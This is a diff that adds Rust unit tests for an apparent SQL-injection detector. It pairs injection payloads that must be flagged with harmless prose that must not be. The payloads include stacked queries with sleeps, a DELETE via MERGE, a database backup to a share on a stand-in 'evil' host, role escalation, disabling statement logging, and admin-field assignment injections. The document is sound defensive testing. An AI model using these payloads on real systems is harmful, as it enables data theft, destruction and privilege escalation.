@@ -1022,3 +1022,56 @@ fn sqlite_terminator_ending_the_value_cuts_the_query_off() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn statements_of_each_dialect_after_a_terminator() {
+    for v in [
+        "1; DO $$ BEGIN PERFORM pg_sleep(5); END $$",
+        "1'; DO SLEEP(5)-- -",
+        "1; MERGE INTO users USING dual ON (1=1) WHEN MATCHED THEN DELETE;--",
+        "1; BACKUP DATABASE app TO DISK='\\\\evil\\s\\a.bak'--",
+        "1; SET ROLE postgres;--",
+        "1; SET search_path TO evil;--",
+        "1; ALTER SYSTEM SET log_statement='none';--",
+        "1; CREATE EXTENSION dblink;--",
+        "1; LOCK TABLES users WRITE;--",
+        "1; HANDLER users OPEN;--",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    // the same verbs in prose after a `;`
+    for v in [
+        "Clean the house; do it(now)",
+        "Great work; lock tables before moving",
+        "Merge the branches; merge into main using git",
+        "Remember; backup database regularly to disk",
+        "We met; set role to admin later",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn update_assignments_list_closes_and_negated_operands() {
+    for v in [
+        "x', role='admin",
+        "x', is_admin=1-- -",
+        "1,2) OR 1=1--",
+        "a','b') AND 1=CONVERT(int,@@version)--",
+        "3,4)) or 2>1 --",
+        "5 OR ~0",
+        "1 AND !!1",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "Smith', John",
+        "a, b) and c",
+        "1, 2) or more",
+        "Tom', Mary', and Sue",
+        "1 or 2 people",
+        "x', y",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
